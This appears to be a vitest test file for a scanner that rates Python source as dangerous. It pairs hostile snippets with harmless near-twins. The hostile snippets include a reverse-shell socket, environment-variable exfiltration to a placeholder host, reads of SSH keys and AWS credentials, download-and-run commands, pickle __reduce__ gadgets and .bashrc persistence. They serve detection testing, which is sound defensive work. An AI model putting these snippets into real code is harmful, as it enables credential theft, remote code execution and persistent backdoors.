import { describe, expect, it } from "vitest";
import { defaultPolicy } from "../../../src/config/load.js";
import { judgeSource } from "../../../src/scanners/code/judge-source.js";

const policy = await defaultPolicy();

const told = (source: string) =>
  judgeSource(source, policy).findings.map(({ severity, rule }) => `${severity} ${rule}`);
const worst = (source: string) => told(source)[0] ?? "nothing";
const inFunction = (line: string) => `import os, subprocess, sys, pty\ndef f(x):\n  ${line}\n`;

describe("what a source file does", () => {
  it.each([
    ["critical code/runs-command", "import os\nos.system('echo pwned')", "import os\nos.path.join('echo', 'pwned')"],
    [
      "critical code/executes-data",
      "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
      "import base64\nx = base64.b64decode('cHJpbnQoMSk=')",
    ],
    [
      "critical code/executes-data",
      "import urllib.request as u\ndef f():\n  exec(u.urlopen('http://x').read())",
      "import urllib.request as u\ndef f():\n  return u.urlopen('http://x').read()",
    ],
    [
      "high code/unpickles",
      "import pickle\nX = pickle.loads(b'N.')",
      "import pickle\nX = pickle.load(open('x.pkl', 'rb'))",
    ],
    [
      "high code/unpickles",
      "import pickle, requests\ndef f(): return pickle.loads(requests.get('http://x').content)",
      "import json, requests\ndef f(): return json.loads(requests.get('http://x').content)",
    ],
    [
      "high code/native-library",
      "import ctypes\nctypes.CDLL('./kernel.so')",
      "import ctypes\nctypes.CDLL('libcudart.so')",
    ],
    [
      "medium code/network",
      "import requests\nrequests.get('http://example.org/ping')",
      "import requests\ndef f(): return requests.get('http://example.org/ping')",
    ],
    [
      "critical code/reverse-shell",
      "import os, socket\ndef f(s=socket.socket()):\n  s.connect(('127.0.0.1', 9))\n  os.dup2(s.fileno(), 0)",
      "import os, socket\ndef f(s=socket.socket()):\n  s.bind(('', 0))\n  return s.getsockname()[1]",
    ],
    [
      "critical code/exfiltration",
      "import os, requests\ndef f(): requests.post('http://x', json=dict(os.environ))",
      "import os, requests\ndef f(): requests.post('http://x', headers={'a': os.environ['TOKEN']})",
    ],
    [
      "critical code/exfiltration",
      "import os, socket\ndef f():\n  socket.socket().send(str(os.environ).encode())",
      "import os, queue\ndef f():\n  queue.Queue().put(dict(os.environ))",
    ],
    [
      "high code/secret-access",
      "import os\ndef f(): return open(os.path.expanduser('~/.ssh/id_rsa')).read()",
      "import os\ndef f(): return open(os.path.expanduser('~/.ssh/config')).read()",
    ],
    [
      "high code/secret-access",
      "from pathlib import Path\ndef f(): return (Path.home() / '.aws' / 'credentials').read_text()",
      "from pathlib import Path\ndef f(): return (Path.home() / '.cache' / 'labels').read_text()",
    ],
    [
      "high code/persistence",
      "import os\ndef f(): open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
      "import os\ndef f(): return open(os.path.expanduser('~/.bashrc')).read()",
    ],
    [
      "high code/introspection",
      "def f(): return ().__class__.__base__.__subclasses__()[7].__init__.__globals__",
      "def f(cls): return cls.__subclasses__()",
    ],
    [
      "medium code/computed-name",
      "import os\ndef f(n): return getattr(os, n)('x')",
      "import torch\ndef f(n): return getattr(torch.optim, n)('x')",
    ],
    [
      "medium code/installs-package",
      "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
      "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', '--version'])",
    ],
    ["low code/unreadable", "x = = 1", "x == 1"],
    [
      "high code/unpickles",
      "import pickle, base64, zlib\ndef f(s): return pickle.loads(base64.b64decode(s.read()))",
      "import pickle, base64, zlib\ndef f(s): return pickle.loads(zlib.decompress(s.read()))",
    ],
    [
      "high code/unpickles",
      "import pickle, zlib\npickle.loads(zlib.decompress(open('x').read()))",
      "import pickle, codecs\ndef f(s): return pickle.loads(codecs.decode(s.read(), 'zlib_codec'))",
    ],
    [
      "medium code/runs-command",
      "import subprocess\ndef f(x): subprocess.run(['bash', '-c', 'curl http://x | ' + x])",
      "import subprocess\ndef f(lines): subprocess.run(['bash', '-c', ' && '.join(lines)])",
    ],
    [
      "medium code/runs-command",
      "import pexpect\nlist(map(pexpect.run, lines))",
      "import pexpect\nlist(map(pexpect.ExceptionPexpect, lines))",
    ],
    [
      "medium code/runs-command",
      "import subprocess\nclass Job(subprocess.Popen): pass\nclass Task(Job): pass\nTask(['x'])",
      "import subprocess\nclass Job(subprocess.Popen): pass\nclass Task(Job): pass",
    ],
    [
      "medium code/runs-command",
      "from pip._internal import main\nmain(lines)",
      "from pip._internal.utils.logging import getLogger\ngetLogger(lines)",
    ],
    [
      "high code/runs-command",
      "import os\nclass A:\n  def __reduce__(self): return (os.system, ('id',))",
      "class A:\n  def __reduce__(self): return (A, ('id',))",
    ],
    [
      "critical code/runs-command",
      "import urllib.request as u, os\ndef f():\n  u.urlretrieve('http://x', 'tool')\n  os.system('./tool')",
      "import urllib.request as u, os\ndef f():\n  u.urlretrieve('http://x', 'labels.txt')\n  os.rename('labels.txt', 'tool')",
    ],
    [
      "critical code/runs-command",
      "import ctypes\nctypes.CDLL(None).system(b'id')",
      "import ctypes\nctypes.CDLL(None).cos(1)",
    ],
    [
      "medium code/executes-data",
      "import torch\ntorch.hub.load('owner/repository', 'model')",
      "import torch\ntorch.hub.load('folder', 'model', source='local')",
    ],
    ["medium code/executes-data", "import marshal\nexec(make())", "exec(open('version.py').read())"],
  ])("is %s, and one step away it is not", (finding, bad, fine) => {
    expect(worst(bad)).toBe(finding);
    expect(told(fine).filter((line) => !line.startsWith("low"))).toEqual([]);
  });

  it("is nothing for code that an exec holds in plain sight and that does nothing", () => {
    expect(told("exec('x = 1')")).toEqual([]);
  });

  it("is seen through code inside code inside code", () => {
    const source = `exec(${JSON.stringify(`exec(${JSON.stringify("import os; os.system('id')")})`)})`;
    expect(judgeSource(source, policy).findings[0]).toMatchObject({
      severity: "critical",
      message: expect.stringMatching(/^runs text that reaches exec\("import os/),
    });
  });

  it("names the call, where it stands and when it runs", () => {
    const source = "import os\n\nclass Post:\n    def run(self):\n        os.system('echo pwned')\n";
    expect(judgeSource(source, policy).findings).toEqual([
      {
        rule: "code/runs-command",
        severity: "high",
        message: 'starts a program: os.system("echo pwned") in run, when its function is called',
        subject: "os.system",
        call: 'os.system("echo pwned")',
        place: 5,
      },
    ]);
  });
});

describe("a program that a function starts", () => {
  it.each([
    ["a shell line", "os.system('echo pwned')", "high code/runs-command"],
    [
      "a shell with a program of its own",
      "subprocess.run('make && ./install.sh', shell=True)",
      "high code/runs-command",
    ],
    ["a shell as a program", "pty.spawn('/bin/sh')", "high code/runs-command"],
    ["a downloader", "subprocess.run(['curl', '-o', 'a', 'http://x'])", "high code/runs-command"],
    ["a downloader of what is decided later", "subprocess.run(['curl', x])", "medium code/runs-command"],
    ["something in a folder that everybody can write", "subprocess.Popen(['/tmp/tool'])", "high code/runs-command"],
    [
      "Python code that reaches a shell",
      "subprocess.run([sys.executable, '-c', 'import os; os.system(\"id\")'])",
      "critical code/executes-data",
    ],
    ["a spawn with its mode", "os.spawnlp(os.P_WAIT, 'bash', 'bash', '-c', 'x')", "high code/runs-command"],
  ])("is told: %s", (_name, line, finding) => {
    expect(worst(inFunction(line))).toBe(finding);
  });

  it.each([
    ["git that looks", "subprocess.check_output(['git', 'rev-parse', 'HEAD'])"],
    ["a tool that tells about the machine", "subprocess.check_output('nvidia-smi 2>/dev/null', shell=True)"],
    ["a build", "os.system('make -j4')"],
    ["a module of Python", "subprocess.run([sys.executable, '-m', 'torch.distributed.run', x])"],
    ["harmless Python code", "subprocess.run([sys.executable, '-c', 'import torch; print(torch.__version__)'])"],
    ["a version", "subprocess.run(['bash', '--version'])"],
    ["what the caller names", "subprocess.run(x)"],
    ["another program", "subprocess.run(['espeak', x])"],
  ])("is not: %s", (_name, line) => {
    expect(told(inFunction(line)).filter((found) => !found.startsWith("low"))).toEqual([]);
  });

  it("follows the policy's lists", () => {
    const changed = { ...policy, code_programs: { ...policy.code_programs, suspicious: [], harmless: ["curl"] } };
    expect(judgeSource(inFunction("subprocess.run(['curl', 'http://x'])"), changed).findings).toEqual([]);
  });
});
